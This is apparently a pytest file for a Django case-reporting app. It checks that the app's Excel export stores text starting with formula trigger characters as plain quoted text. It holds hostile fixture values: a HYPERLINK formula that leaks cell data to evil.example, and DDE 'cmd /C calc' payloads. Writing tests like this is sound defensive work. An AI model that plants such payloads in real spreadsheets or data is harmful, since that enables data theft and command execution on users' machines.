"""Spreadsheet formula injection (OWASP "CSV injection"): document and user
text that starts with =, +, -, @, tab or CR is written into the .xlsx as text,
exactly as it was, never as a formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from cases.models import Party
from reports.exports import FORMULA_TRIGGERS, cell_text_safe, export_bytes
from reports.services import report_create
from tests.reports import helpers

pytestmark = pytest.mark.django_db

HOSTILE_FILE = '=HYPERLINK("http://evil.example/?leak="&A1,"rechnung.pdf")'
HOSTILE_QUOTE = "+49 Zahlbar bis 30.04.2026."
HOSTILE_VALUE = "-2+3+cmd|' /C calc'!A0"
HOSTILE_PARTY = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_REFERENCE = "\t=1+1"
HOSTILE_LABEL = "\r=cmd|' /C calc'!A0"
HOSTILE_TEXT = "-1+1 "


def _workbook(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_cell_text_safe_keeps_the_exact_text_as_a_string(text):
    wb = Workbook()
    ws = wb.active
    ws.append([text, 7, None, "plain"])
    for cell in ws[1]:
        cell_text_safe(cell)
    buffer = io.BytesIO()
    wb.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert back["A1"].value == text
    assert back["A1"].data_type == "s"
    assert back["A1"].quotePrefix
    assert back["B1"].value == 7 and back["D1"].value == "plain"
    assert not back["D1"].quotePrefix
    assert text[0] in FORMULA_TRIGGERS


def test_no_cell_of_any_sheet_is_a_formula_when_texts_start_with_triggers(
    case, lawyer, corpus, monkeypatch
):
    monkeypatch.setitem(helpers.FILES, helpers.INVOICE, HOSTILE_FILE)
    receipt = "+49 " + helpers.RECEIPT
    monkeypatch.setitem(
        helpers.VALUES,
        "delivery_evidence",
        ("text", HOSTILE_VALUE, receipt, "+49 Sendungsverfolgung"),
    )
    due = helpers.VALUES["due_date"]
    invoice_with_plus = helpers.INVOICE.replace(
        "Zahlbar bis 30.04.2026.", HOSTILE_QUOTE
    )
    monkeypatch.setitem(helpers.FILES, invoice_with_plus, HOSTILE_FILE)
    monkeypatch.setitem(
        helpers.VALUES, "due_date", (due[0], due[1], invoice_with_plus, HOSTILE_QUOTE)
    )
    case.reference = HOSTILE_REFERENCE
    case.title = "=Titel"
    case.save()
    helpers.verzug_case(case)
    Party.objects.filter(case=case, role="debtor").update(name=HOSTILE_PARTY)
    report = report_create(case=case, actor=lawyer, language="de")
    first = report.findings.order_by("position").first()
    assert first is not None
    report.findings.filter(pk=first.pk).update(
        label=HOSTILE_LABEL, text=HOSTILE_TEXT + first.text
    )

    wb = _workbook(export_bytes(report=report, fmt="xlsx")[0])
    # Party names, the case reference and free-text values are set hostile too:
    # whichever sheet prints them now or later, no cell may be a formula.
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    formulas = [
        (c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"
    ]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for hostile in (HOSTILE_FILE, HOSTILE_QUOTE):
        assert hostile in texts, hostile
    assert any(text.startswith(HOSTILE_TEXT) for text in texts)
    assert HOSTILE_LABEL in texts
    triggered = [
        c for c in cells if isinstance(c.value, str) and c.value[:1] in FORMULA_TRIGGERS
    ]
    assert triggered and all(c.quotePrefix for c in triggered)
    evidence = wb["Belege"]
    # Document file name, requirement label and quote on Evidence; the finding's
    # label and text on Findings.
    assert {c.column_letter for c in triggered if c.parent is evidence} >= {
        "B",
        "F",
        "H",
    }
    findings = wb["Feststellungen"]
    assert {c.column_letter for c in triggered if c.parent is findings} >= {"C", "E"}
